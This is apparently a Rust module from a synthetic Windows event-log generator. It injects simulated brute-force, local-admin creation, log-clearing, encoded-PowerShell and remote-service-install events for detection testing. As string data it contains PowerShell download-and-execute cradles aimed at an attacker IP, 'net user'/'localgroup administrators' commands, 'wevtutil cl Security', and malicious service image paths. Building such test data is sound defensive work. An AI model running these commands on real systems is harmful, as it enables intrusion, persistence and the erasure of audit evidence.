//! Attack injection: the Windows side of each attack kind, written through the same [`Gen`] as
//! the background so ids and sequences stay consistent.

use super::vocab::{CMD, POWERSHELL, PRIV_ADMIN};
use super::{net_logon, ntlm_logon, Gen, MS, NULL_ACCT, SEC};
use crate::attacks::{AttackInstance, AttackKind};
use crate::fmt::Micros;
use crate::rng::mix64;
use crate::sources::windows::{Account, Acct, Detail, Ip, Logon, Service, Text, Wfp, WinEvent};

/// Attacker workstation names seen in NTLM brute force (WorkstationName of the 4625s).
const ATTACKER_WS: &[&str] = &["kali", "WIN-3K8F2QH7LJD", "DESKTOP-0U1BQ4N", "ADMIN-PC", "mstsc"];
const NEW_ACCOUNTS: &[&str] =
    &["support", "helpdesk_adm", "backup_svc", "sysadmin2", "defaultuser1", "admin_tmp"];

pub(super) fn inject<'a>(g: &mut Gen<'_, 'a>, out: &mut Vec<WinEvent<'a>>, a: &AttackInstance) {
    match a.kind {
        AttackKind::BruteForceThenSuccess => brute_force(g, out, a),
        AttackKind::NewLocalAdmin => new_local_admin(g, out, a),
        AttackKind::AuditLogCleared => log_cleared(g, out, a),
        AttackKind::EncodedPowershell => encoded_powershell(g, out, a),
        AttackKind::ServiceInstall => service_install(g, out, a),
        _ => {}
    }
}

/// ≥ 20 NTLM type-3 failures from the attacker's IP against one account on one server within a
/// few minutes (each also validated on a DC: 4776), then a success with its logoff.
fn brute_force<'a>(g: &mut Gen<'_, 'a>, out: &mut Vec<WinEvent<'a>>, a: &AttackInstance) {
    let h = a.host;
    let dc = g.dc();
    let ws = *g.rng.pick(ATTACKER_WS);
    let sam = &g.org.users[a.user].sam;
    let ip = Ip::V4(a.attacker_ip);
    let n = 20 + g.rng.below(30);
    let mut t = a.start + 5 * MS;
    for _ in 0..n {
        let port = g.port();
        let l = Logon {
            lm: "-",
            key_len: 0,
            status: 0xc000_006d,
            sub_status: 0xc000_006a,
            failure: "%%2313",
            ..ntlm_logon(net_logon(ip, port), ws)
        };
        let target = Acct { sid: "S-1-0-0", name: sam, domain: g.dom(), logon_id: 0 };
        g.push(out, t, h, 4625, NULL_ACCT, target, Detail::Logon(Box::new(l)));
        g.push(
            out,
            t - 2 * MS,
            dc,
            4776,
            NULL_ACCT,
            target,
            Detail::Ntlm { workstation: ws, status: 0xc000_006a },
        );
        t += g.at(2 * SEC, 8 * SEC);
    }
    t += g.at(5 * SEC, 40 * SEC);
    let target = g.user(a.user, 0);
    g.push(
        out,
        t - 2 * MS,
        dc,
        4776,
        NULL_ACCT,
        target,
        Detail::Ntlm { workstation: ws, status: 0 },
    );
    let lid = g.logon_id();
    let target = g.user(a.user, lid);
    let port = g.port();
    let mut l = ntlm_logon(net_logon(ip, port), ws);
    let privileged = g.org.users[a.user].admin.then_some(PRIV_ADMIN);
    l.elevated = privileged.is_some();
    g.logon(out, t, h, NULL_ACCT, target, l, privileged);
    let dur = g.at(20 * SEC, 240 * SEC);
    g.logoff(out, t + dur, h, target, 3);
}

/// A machine SID for local accounts of host `h` (stable per host).
fn machine_sid(seed: u64, h: usize) -> String {
    let r = mix64(seed ^ 0x51d0 ^ ((h as u64) << 20));
    format!(
        "S-1-5-21-{}-{}-{}",
        1_000_000_000 + (r % 3_000_000_000),
        1_000_000_000 + ((r >> 20) % 3_000_000_000),
        100_000_000 + ((r >> 40) % 900_000_000)
    )
}

/// The actor's logon id on their workstation at `t` (their session, or a fresh one).
fn actor<'a>(g: &mut Gen<'_, 'a>, u: usize, t: Micros) -> Acct<'a> {
    let lid = g
        .session(u, t)
        .map(|s| if s.elevated_id != 0 { s.elevated_id } else { s.logon_id })
        .unwrap_or_else(|| g.logon_id());
    g.user(u, lid)
}

/// `net user X P /add`, the account events, `net localgroup administrators X /add`, 4732.
fn new_local_admin<'a>(g: &mut Gen<'_, 'a>, out: &mut Vec<WinEvent<'a>>, a: &AttackInstance) {
    let h = a.host;
    let mut t = a.start;
    let subject = actor(g, a.user, t);
    let name = format!(
        "{}{}",
        g.rng.pick(NEW_ACCOUNTS),
        if g.rng.chance(0.5) { String::new() } else { g.rng.range(1, 99).to_string() }
    );
    let password = format!("P@ssw0rd{}!", g.rng.range(10, 9999));
    let host_name = g.host(h).name.as_str();
    let sid: Box<str> = format!("{}-{}", machine_sid(g.ctx.seed, h), 1001 + g.rng.below(8)).into();
    let cmd_pid = g.new_pid();
    let net_cmd = format!("net  user {name} {password} /add");
    let net1_cmd = format!("C:\\Windows\\system32\\net1  user {name} {password} /add");
    let lg_cmd = format!("net  localgroup administrators {name} /add");
    let net = g.process(
        out,
        t,
        h,
        subject,
        Text::S("C:\\Windows\\System32\\net.exe"),
        Text::Own(net_cmd.into()),
        CMD,
        cmd_pid,
        "%%1937",
        "S-1-16-12288",
    );
    g.process(
        out,
        t + 8 * MS,
        h,
        subject,
        Text::S("C:\\Windows\\System32\\net1.exe"),
        Text::Own(net1_cmd.into()),
        "C:\\Windows\\System32\\net.exe",
        net,
        "%%1937",
        "S-1-16-12288",
    );
    t += 40 * MS;
    let acct = Account {
        name: Text::Own(name.clone().into()),
        domain: Text::S(host_name),
        sid: Text::Own(sid.clone()),
        member_sid: Text::S(""),
        uac: 0x10,
    };
    for (k, id) in [4720u16, 4722, 4724, 4738].into_iter().enumerate() {
        let a2 = Account { uac: if id == 4720 { 0x15 } else { 0x10 }, ..acct.clone() };
        g.push(out, t + k as i64 * MS, h, id, subject, NULL_ACCT, Detail::Account(Box::new(a2)));
    }
    t += g.at(5 * SEC, 60 * SEC);
    g.process(
        out,
        t,
        h,
        subject,
        Text::S("C:\\Windows\\System32\\net.exe"),
        Text::Own(lg_cmd.into()),
        CMD,
        cmd_pid,
        "%%1937",
        "S-1-16-12288",
    );
    let grp = Account {
        name: Text::S("Administrators"),
        domain: Text::S("Builtin"),
        sid: Text::S("S-1-5-32-544"),
        member_sid: Text::Own(sid),
        uac: 0,
    };
    g.push(out, t + 30 * MS, h, 4732, subject, NULL_ACCT, Detail::Account(Box::new(grp)));
}

/// `wevtutil cl Security` on a server, then the 1102 the Eventlog service writes.
fn log_cleared<'a>(g: &mut Gen<'_, 'a>, out: &mut Vec<WinEvent<'a>>, a: &AttackInstance) {
    let h = a.host;
    let t = a.start;
    let lid = g.logon_id();
    let subject = g.user(a.user, lid);
    let parent_pid = g.new_pid();
    g.process(
        out,
        t,
        h,
        subject,
        Text::S("C:\\Windows\\System32\\wevtutil.exe"),
        Text::S("wevtutil  cl Security"),
        POWERSHELL,
        parent_pid,
        "%%1937",
        "S-1-16-12288",
    );
    g.push(out, t + 150 * MS, h, 1102, subject, NULL_ACCT, Detail::Cleared);
}

/// A download cradle encoded as PowerShell expects for -EncodedCommand (UTF-16LE, base64).
pub fn encoded_command(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
    crate::fmt::base64(&utf16)
}

fn encoded_powershell<'a>(g: &mut Gen<'_, 'a>, out: &mut Vec<WinEvent<'a>>, a: &AttackInstance) {
    let h = a.host;
    let t = a.start;
    let subject = actor(g, a.user, t);
    let ip = crate::fmt::ipv4_string(a.attacker_ip);
    let script = if g.rng.chance(0.5) {
        format!("$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('http://{ip}/a.ps1')")
    } else {
        format!("IEX (New-Object Net.WebClient).DownloadString('https://{ip}/update')")
    };
    let flags = *g.rng.pick(&[
        "-NoP -NonI -W Hidden -Enc",
        "-nop -w hidden -e",
        "-NoProfile -ExecutionPolicy Bypass -EncodedCommand",
    ]);
    let cmd = format!("powershell.exe {flags} {}", encoded_command(&script));
    let (parent, parent_pid) = if g.rng.chance(0.5) {
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", g.new_pid())
    } else {
        (CMD, g.new_pid())
    };
    let pid = g.process(
        out,
        t,
        h,
        subject,
        Text::S(POWERSHELL),
        Text::Own(cmd.into()),
        parent,
        parent_pid,
        "%%1938",
        "S-1-16-8192",
    );
    let app =
        "\\device\\harddiskvolume2\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe";
    let w = Wfp {
        pid,
        app,
        inbound: false,
        src: Ip::V4(g.host(h).ip),
        sport: g.port(),
        dst: Ip::V4(a.attacker_ip),
        dport: 443,
        proto: 6,
        filter: 67_231,
    };
    g.push(out, t + 900 * MS, h, 5156, NULL_ACCT, NULL_ACCT, Detail::Wfp(Box::new(w)));
}

/// Suspicious service image paths (matching the Sigma service-install rules' ImagePath list).
fn evil_service_file(g: &mut Gen<'_, '_>, ip: &str, svc: &str) -> String {
    match g.rng.below(4) {
        0 => format!("%COMSPEC% /c powershell.exe -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://{ip}:8080/a'))\""),
        1 => format!("\\\\127.0.0.1\\ADMIN$\\{svc}.exe"),
        2 => format!("C:\\Temp\\{svc}.exe"),
        _ => format!("cmd.exe /c C:\\Perflogs\\{svc}.exe && del C:\\Perflogs\\{svc}.exe"),
    }
}

/// Lateral movement: an NTLM network logon from the victim's workstation, then a service
/// installed remotely through the SCM (ClientProcessId/ParentProcessId 0).
fn service_install<'a>(g: &mut Gen<'_, 'a>, out: &mut Vec<WinEvent<'a>>, a: &AttackInstance) {
    let h = a.host;
    let t = a.start;
    let client = g.org.users[a.user].workstation;
    let lid = g.logon_id();
    let target = g.user(a.user, lid);
    let l = ntlm_logon(net_logon(Ip::V4(g.host(client).ip), g.port()), &g.host(client).name);
    g.logon(out, t, h, NULL_ACCT, target, Logon { elevated: true, ..l }, Some(PRIV_ADMIN));
    let svc: String = if g.rng.chance(0.2) {
        "PSEXESVC".into()
    } else {
        (0..6 + g.rng.below(3)).map(|_| (b'a' + g.rng.below(26) as u8) as char).collect()
    };
    let ip = crate::fmt::ipv4_string(a.attacker_ip);
    let file = evil_service_file(g, &ip, &svc);
    let sv = Service {
        name: Text::Own(svc.into()),
        file: Text::Own(file.into()),
        start_type: 3,
        client_pid: 0,
        parent_pid: 0,
        start_key: 0,
    };
    g.push(out, t + 350 * MS, h, 4697, target, NULL_ACCT, Detail::Service(Box::new(sv)));
    g.logoff(out, t + 2 * SEC, h, target, 3);
}

#[cfg(test)]
mod unit {
    use super::*;

    #[test]
    fn encoded_command_is_utf16le_base64() {
        // `$` in UTF-16LE begins with JAB, `IEX` with SQBFAFgA: the prefixes Sigma looks for.
        assert!(encoded_command("$c=1").starts_with("JAB"));
        assert!(encoded_command("IEX (x)").starts_with("SQBFAFgA"));
    }
}
